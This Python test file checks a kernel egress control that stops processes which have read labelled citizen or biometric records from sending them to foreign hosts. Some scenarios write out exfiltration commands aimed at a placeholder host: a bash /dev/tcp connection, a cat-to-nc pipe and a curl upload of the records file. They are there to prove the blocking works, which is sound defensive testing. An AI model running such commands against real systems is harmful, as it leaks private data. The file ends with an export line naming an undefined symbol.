# SPDX-License-Identifier: GPL-2.0
"""What a process that has read labelled data may send, and to where."""
import os
import socket
import threading

from harness import calls
from harness.actor import Actor, do
from harness.check import attempt, expect, expect_that, refused, scenario, skip
from harness.lab import read_file
from harness.net import DGRAM, INET, INET6, STREAM, Listener, connect, send, sendmsg, sendto
from harness.stages import ENFORCED
from harness.world import (DESK, FOREIGN4, FOREIGN6, HOME4, HOME6, MNT_DETACH, ROOT, mount,
                           umount)

ZONE_PORT = 5432
DATA = b'four score'

def citizens(lab):
    return os.path.join(lab.registry, 'citizens.csv')

def after_reading(lab, *deeds, path=None, first=None):
    """What each of the deeds yields to the desk once it has read from a store."""
    def script(*made):
        read_file(path or citizens(lab))
        yield [attempt(deed, *made) for deed in deeds]
    with Actor(DESK, script, first=first) as a:
        return a.step(), a.pid

@scenario(ENFORCED)
def who_has_read_nothing_sends_freely(lab):
    with Listener(FOREIGN4, 443) as tcp, Listener(FOREIGN4, 53, DGRAM) as udp:
        expect('by TCP', do(DESK, send, FOREIGN4, 443, DATA), len(DATA))
        expect('what arrives', tcp.heard(), DATA)
        expect('by UDP', do(DESK, sendto, FOREIGN4, 53, DATA), len(DATA))
        expect('what arrives', udp.heard(), DATA)

@scenario(ENFORCED)
def a_reader_may_not_connect_to_a_foreign_address(lab):
    with Listener(FOREIGN4, 443) as l4, Listener(FOREIGN6, 443) as l6:
        got, pid = after_reading(lab, lambda: connect(FOREIGN4, 443).close(),
                                 lambda: connect(FOREIGN6, 443).close())
        expect('by IPv4 and by IPv6', got, ['EACCES', 'EACCES'])
        e = lab.event(pid=pid, op='send', ip=FOREIGN4, port=443, blocked=True)
        expect('the event', (e.act, e.labels), ('connect', {'cnic'}))
        lab.event(pid=pid, op='send', ip=FOREIGN6, port=443, blocked=True)
        l4.silent()
        l6.silent()

@scenario(ENFORCED)
def a_reader_sends_to_the_allowed_zone(lab):
    with Listener(HOME4, ZONE_PORT) as l4, Listener(HOME6, ZONE_PORT) as l6, \
         Listener(HOME4, ZONE_PORT, DGRAM) as u4:
        got, pid = after_reading(lab, lambda: send(HOME4, ZONE_PORT, DATA),
                                 lambda: send(HOME6, ZONE_PORT, DATA),
                                 lambda: sendto(HOME4, ZONE_PORT, DATA))
        expect('TCP by IPv4 and IPv6, and UDP', got, [len(DATA)] * 3)
        expect('what arrives', [l.heard() for l in (l4, l6, u4)], [DATA] * 3)
        expect('the verdict in the event', lab.event(pid=pid, ip=HOME4, op='send').verdict, 'allow')

@scenario(ENFORCED)
def another_port_of_the_allowed_hosts_is_refused(lab):
    with Listener(HOME4, 8080) as listener:
        got, _ = after_reading(lab, lambda: send(HOME4, 8080, DATA),
                               lambda: sendto(HOME4, 53, DATA))
        expect('TCP and UDP', got, ['EACCES', 'EACCES'])
        listener.silent()

@scenario(ENFORCED)
def a_neighbour_of_the_zone_is_refused(lab):
    got, _ = after_reading(lab, lambda: sendto('10.21.0.5', ZONE_PORT, DATA),
                           lambda: sendto('10.19.255.255', ZONE_PORT, DATA),
                           lambda: sendto('fd00:20:0:1::5', ZONE_PORT, DATA),
                           lambda: sendto('127.0.0.1', ZONE_PORT, DATA))
    expect('each', got, ['EACCES'] * 4)

@scenario(ENFORCED)
def ipv4_in_ipv6_addresses_are_what_they_mean(lab):
    def mapped(ip):
        return '::ffff:' + ip
    with Listener(HOME4, ZONE_PORT) as tcp, Listener(HOME4, ZONE_PORT, DGRAM) as udp:
        got, _ = after_reading(lab, lambda: send(mapped(HOME4), ZONE_PORT, DATA, STREAM, INET6),
                               lambda: sendto(mapped(HOME4), ZONE_PORT, DATA, INET6),
                               lambda: send(mapped(FOREIGN4), 443, DATA, STREAM, INET6),
                               lambda: sendto(mapped(FOREIGN4), 53, DATA, INET6))
        expect('to the zone twice, then elsewhere twice', got,
               [len(DATA), len(DATA), 'EACCES', 'EACCES'])
        expect('what arrives', [tcp.heard(), udp.heard()], [DATA, DATA])

@scenario(ENFORCED)
def every_way_to_send_a_datagram_is_refused(lab):
    def by_sendmmsg():
        with socket.socket(INET, DGRAM) as s:
            return calls.sendmmsg(s.fileno(), DATA, [(FOREIGN4, 53), (FOREIGN4, 54)])

    def by_write():
        with connect(FOREIGN4, 53, DGRAM) as s:
            return os.write(s.fileno(), DATA)

    def by_io_uring():
        with connect(FOREIGN4, 53, DGRAM) as s:
            return calls.uring_send(s.fileno(), DATA)
    with Listener(FOREIGN4, 53, DGRAM) as listener:
        got, pid = after_reading(lab, lambda: sendto(FOREIGN4, 53, DATA),
                                 lambda: sendmsg(FOREIGN4, 53, DATA),
                                 lambda: send(FOREIGN4, 53, DATA, DGRAM), by_sendmmsg, by_write,
                                 by_io_uring, lambda: sendto(FOREIGN6, 53, DATA))
        expect('sendto, sendmsg, connect+send, sendmmsg, write, io_uring, IPv6', got,
               ['EACCES'] * 7)
        lab.event(pid=pid, act='send', ip=FOREIGN4, port=53, blocked=True)
        listener.silent()

@scenario(ENFORCED)
def sendmmsg_stops_at_the_message_that_is_refused(lab):
    def by_sendmmsg():
        with socket.socket(INET, DGRAM) as s:
            return calls.sendmmsg(s.fileno(), DATA, [(HOME4, ZONE_PORT), (FOREIGN4, 53)])
    with Listener(FOREIGN4, 53, DGRAM) as foreign, Listener(HOME4, ZONE_PORT, DGRAM) as home:
        got, _ = after_reading(lab, by_sendmmsg)
        expect('how many went out', got, [1])
        expect('what arrives at home', home.heard(), DATA)
        foreign.silent()

@scenario(ENFORCED)
def a_connected_datagram_socket_is_asked_for_the_name_that_it_is_given(lab):
    """connect() to the zone, sendto() elsewhere, and the other way round."""
    def away():
        with connect(HOME4, ZONE_PORT, DGRAM) as s:
            return s.sendto(DATA, (FOREIGN4, 53))

    def home():
        with connect(FOREIGN4, 53, DGRAM) as s:
            return s.sendto(DATA, (HOME4, ZONE_PORT))
    with Listener(FOREIGN4, 53, DGRAM) as foreign, Listener(HOME4, ZONE_PORT, DGRAM) as near:
        got, _ = after_reading(lab, away, home)
        expect('away and home', got, ['EACCES', len(DATA)])
        expect('what arrives at home', near.heard(), DATA)
        foreign.silent()

@scenario(ENFORCED)
def a_connection_from_before_the_read_is_refused_after_it(lab):
    def script():
        with connect(FOREIGN4, 443) as s:
            yield s.send(b'before')
            read_file(citizens(lab))
            yield attempt(s.send, DATA)
            yield attempt(os.write, s.fileno(), DATA)
            yield attempt(s.sendmsg, [DATA], [], 0, (HOME4, ZONE_PORT))
            yield attempt(calls.uring_send, s.fileno(), DATA)
    with Listener(FOREIGN4, 443) as listener, Actor(DESK, script) as a:
        expect('before reading', a.step(), 6)
        refused('send', a.step())
        refused('write', a.step())
        refused('naming a host of the zone instead', a.step())
        refused('io_uring', a.step())
        e = lab.event(pid=a.pid, act='send', blocked=True)
        expect('where to, in the event', (e.ip, e.port), (FOREIGN4, 443))
        a.end()
        expect('what arrives', listener.heard(), b'before')

@scenario(ENFORCED)
def sendfile_from_a_store_to_a_foreign_socket_is_refused(lab):
    """The socket is connected first: what asks is the splice hook on 6.1."""
    def script():
        with connect(FOREIGN4, 443) as s:
            fd = os.open(citizens(lab), os.O_RDONLY)
            yield attempt(os.sendfile, s.fileno(), fd, 0, 64)
            pipe = os.pipe()
            yield attempt(os.splice, fd, pipe[1], 64, offset_src=0)
            yield attempt(os.splice, pipe[0], s.fileno(), 64)
    with Listener(FOREIGN4, 443) as listener, Actor(DESK, script) as a:
        refused('sendfile', a.step())
        expect('splice to a pipe', a.step(), 64)
        refused('splice from the pipe to the socket', a.step())
        lab.event(pid=a.pid, op='send', blocked=True, ip=FOREIGN4)
        a.end()
        expect('what arrives', listener.heard(), b'')

@scenario(ENFORCED)
def sendfile_from_a_store_to_the_allowed_zone_gets_through(lab):
    def script():
        with connect(HOME4, ZONE_PORT) as s:
            fd = os.open(citizens(lab), os.O_RDONLY)
            yield attempt(os.sendfile, s.fileno(), fd, 0, 64)
    with Listener(HOME4, ZONE_PORT) as listener, Actor(DESK, script) as a:
        expect('sendfile', a.step(), 64)
        a.end()
        expect('what arrives', listener.heard()[:4], b'cnic')

@scenario(ENFORCED)
def a_first_packet_that_carries_data_is_refused(lab):
    """TCP fast open: the only stream send that takes a name."""
    def by_fastopen(ip, port):
        with socket.socket(INET, STREAM) as s:
            return s.sendto(DATA, socket.MSG_FASTOPEN, (ip, port))
    with Listener(FOREIGN4, 443) as foreign, Listener(HOME4, ZONE_PORT) as home:
        got, _ = after_reading(lab, lambda: by_fastopen(FOREIGN4, 443),
                               lambda: by_fastopen(HOME4, ZONE_PORT))
        expect('away and home', got, ['EACCES', len(DATA)])
        expect('what arrives at home', home.heard(), DATA)
        foreign.silent()


@scenario(ENFORCED)
def who_called_is_answered_only_from_the_zone(lab):
    """A reader that listens: the others connect to it."""
    def script():
        with socket.socket(INET, STREAM) as listener:
            listener.bind(('0.0.0.0', 9999))
            listener.listen()
            read_file(citizens(lab))
            yield 'listening'
            for _ in range(2):
                s, peer = listener.accept()
                yield attempt(s.send, DATA), peer[0]

    def call_from(ip, port):
        s = socket.socket(INET, STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((ip, port))
        s.connect((HOME4, 9999))
        return s
    with Actor(DESK, script) as a:
        expect('it listens', a.step(), 'listening')
        with call_from(FOREIGN4, 443):
            expect('an answer to a foreign address', a.step(), ['EACCES', FOREIGN4])
        with call_from(HOME4, ZONE_PORT) as s:
            expect('an answer to the zone', a.step(), [len(DATA), HOME4])
            expect('what arrives', s.recv(99), DATA)


@scenario(ENFORCED)
def multipath_tcp_is_no_way_around(lab):
    def by_mptcp():
        with socket.socket(INET, STREAM, 262) as s:
            s.connect((FOREIGN4, 443))
            return s.send(DATA)
    with Listener(FOREIGN4, 443) as listener:
        got, _ = after_reading(lab, by_mptcp)
        if got == ['EPROTONOSUPPORT']:
            skip('this kernel has no MPTCP')
        expect('connecting', got, ['EACCES'])
        listener.silent()


@scenario(ENFORCED)
def a_mapping_through_an_overlay_labels_the_reader(lab):
    """The overlay's file is another inode, and the store's is what is mapped."""
    where = lab.world.path('overlay-to-map')
    for name in ('merged', 'upper', 'work'):
        os.makedirs(os.path.join(where, name), exist_ok=True)
    mount('overlay', f'{where}/merged', 'overlay',
          data=f'lowerdir={lab.registry},upperdir={where}/upper,workdir={where}/work')

    def script():
        fd = os.open(f'{where}/merged/citizens.csv', os.O_RDONLY)
        yield calls.peek(calls.map_file(fd, calls.PROT_READ), 4)
        yield attempt(sendto, FOREIGN4, 53, DATA)
    try:
        with Actor(DESK, script) as a:
            expect('what it sees', a.step(), b'cnic')
            refused('sending after that', a.step())
    finally:
        umount(f'{where}/merged', MNT_DETACH)


@scenario(ENFORCED)
def a_local_socket_is_the_zone_local(lab):
    with socket.socket(socket.AF_UNIX, STREAM) as listener:
        path = os.path.join(lab.out, 'local.sock')
        listener.bind(path)
        listener.listen()

        def by_path():
            with socket.socket(socket.AF_UNIX, STREAM) as s:
                s.connect(path)
                return s.send(DATA)

        def by_pair():
            a, b = socket.socketpair()
            return a.send(DATA)

        def by_datagram():
            with socket.socket(socket.AF_UNIX, DGRAM) as s:
                return s.sendto(DATA, path)
        got, pid = after_reading(lab, by_path, by_pair, by_datagram)
        expect('by path and by pair', got[:2], ['EACCES', 'EACCES'])
        expect_that('by datagram', got[2] in ('EACCES', 'EPROTOTYPE'))
        e = lab.event(pid=pid, op='send', blocked=True)
        expect_that(f'the event names the zone: {e.why!r}', 'local' in e.why)

@scenario(ENFORCED)
def packet_and_raw_sockets_are_refused(lab):
    def make():
        raw = socket.socket(INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0800)
        packet.bind(('lo', 0x0800))
        return raw, packet

    frame = bytes(12) + b'\x08\x00' + DATA * 8
    got, pid = after_reading(lab, lambda made: made[0].sendto(b'\x08' + bytes(7), (FOREIGN4, 0)),
                             lambda made: made[1].send(frame), first=make)
    expect('raw and packet', got, ['EACCES', 'EACCES'])
    lab.event(pid=pid, op='send', blocked=True)

@scenario(ENFORCED)
def a_child_of_a_reader_is_refused(lab):
    def script():
        read_file(citizens(lab))
        child = os.fork()
        if not child:
            os._exit(attempt(sendto, FOREIGN4, 53, DATA) == 'EACCES')
        yield os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    with Actor(DESK, script) as a:
        expect('the child is refused', a.step(), 1)

@scenario(ENFORCED)
def a_thread_from_before_the_read_is_refused(lab):
    def script():
        go, results = threading.Event(), []

        def other():
            go.wait()
            results.append(attempt(sendto, FOREIGN4, 53, DATA))
        t = threading.Thread(target=other)
        t.start()
        read_file(citizens(lab))
        go.set()
        t.join()
        yield results
    with Actor(DESK, script) as a:
        expect('the thread', a.step(), ['EACCES'])

@scenario(ENFORCED)
def what_a_thread_has_read_the_others_may_not_send(lab):
    def script():
        t = threading.Thread(target=read_file, args=(citizens(lab),))
        t.start()
        t.join()
        yield attempt(sendto, FOREIGN4, 53, DATA)
    with Actor(DESK, script) as a:
        refused('the main thread', a.step())

def exec_shell(command):
    """Never returns. A shell's /dev/tcp needs no program on a slow disk."""
    null = os.open('/dev/null', os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.execv('/bin/bash', ['bash', '-c', command])

def shell_after(lab, leader_execs):
    """Reads, then becomes a shell that connects: its exit status, and its pid."""
    def script():
        child = os.fork()
        if not child:
            read_file(citizens(lab))
            run = (f'exec 3<>/dev/tcp/{FOREIGN4}/443',)
            if leader_execs:
                exec_shell(*run)
            t = threading.Thread(target=exec_shell, args=run)
            t.start()
            t.join()
        yield child
        yield os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    with Actor(DESK, script) as a:
        pid = a.step()
        return a.step(), pid

@scenario(ENFORCED)
def exec_keeps_the_labels(lab):
    with Listener(FOREIGN4, 443) as listener:
        status, pid = shell_after(lab, True)
        expect('exit status of the shell', status, 1)
        expect('in the event', lab.event(pid=pid, act='connect', blocked=True).comm, 'bash')
        listener.silent()

@scenario(ENFORCED)
def exec_by_another_thread_keeps_the_labels(lab):
    with Listener(FOREIGN4, 443) as listener:
        status, pid = shell_after(lab, False)
        expect('exit status of the shell', status, 1)
        expect('in the event', lab.event(pid=pid, act='connect', blocked=True).comm, 'bash')
        listener.silent()

@scenario(ENFORCED)
def a_shell_that_has_read_nothing_connects(lab):
    with Listener(FOREIGN4, 443) as listener:
        r = lab.run(DESK, 'bash', '-c', f'echo hello >/dev/tcp/{FOREIGN4}/443')
        expect('its status', r.status, 0)
        expect('what arrives', listener.heard(), b'hello\n')

@scenario(ENFORCED)
def a_pipe_from_a_reader_to_a_sender_leads_nowhere(lab):
    """cat citizens.csv | nc: the allowed reader's pipe carries the label to nc."""
    with Listener(FOREIGN4, 443) as listener:
        lab.run(DESK, 'bash', '-c', f'cat {citizens(lab)} | nc -N -w 2 {FOREIGN4} 443')
        lab.event(comm='nc', op='send', blocked=True, ip=FOREIGN4)
        expect('what arrives', listener.heard(), b'')

@scenario(ENFORCED)
def curl_uploads_to_nobody_foreign(lab):
    """curl asks before it reads, so it gets a connection, but not a byte of the file."""
    with Listener(FOREIGN4, 80) as listener:
        r = lab.run(DESK, 'curl', '-sS', '-m', '10', '-T', citizens(lab), f'http://{FOREIGN4}/')
        expect_that(f'curl fails: {r.status}', r.status != 0)
        lab.event(pid=r.pid, op='send', blocked=True, ip=FOREIGN4)
        heard = listener.heard()
        expect_that(f'no data arrives: {heard[:200]!r}', b'cnic' not in heard)

@scenario(ENFORCED)
def each_label_needs_a_rule(lab):
    """The desk may send cnic to the zone, and nothing lets it send biometric."""
    with Listener(HOME4, ZONE_PORT) as listener:
        path = os.path.join(lab.registry, 'biometric', '0001.fpt')
        got, pid = after_reading(lab, lambda: connect(HOME4, ZONE_PORT).close(), path=path)
        expect('connecting', got, ['EACCES'])
        e = lab.event(pid=pid, op='send', blocked=True, ip=HOME4)
        expect_that(f'the event names the label: {e.why!r}', 'biometric' in e.why)
        listener.silent()

@scenario(ENFORCED)
def a_terminal_may_show_it(lab):
    def script():
        read_file(citizens(lab))
        master, slave = os.openpty()
        yield attempt(os.write, slave, DATA)
    with Actor(DESK, script) as a:
        expect('writing to a terminal', a.step(), len(DATA))
    refused('while root may not even read', lab.read(ROOT, citizens(lab)))

__all__ = ['SECRET']
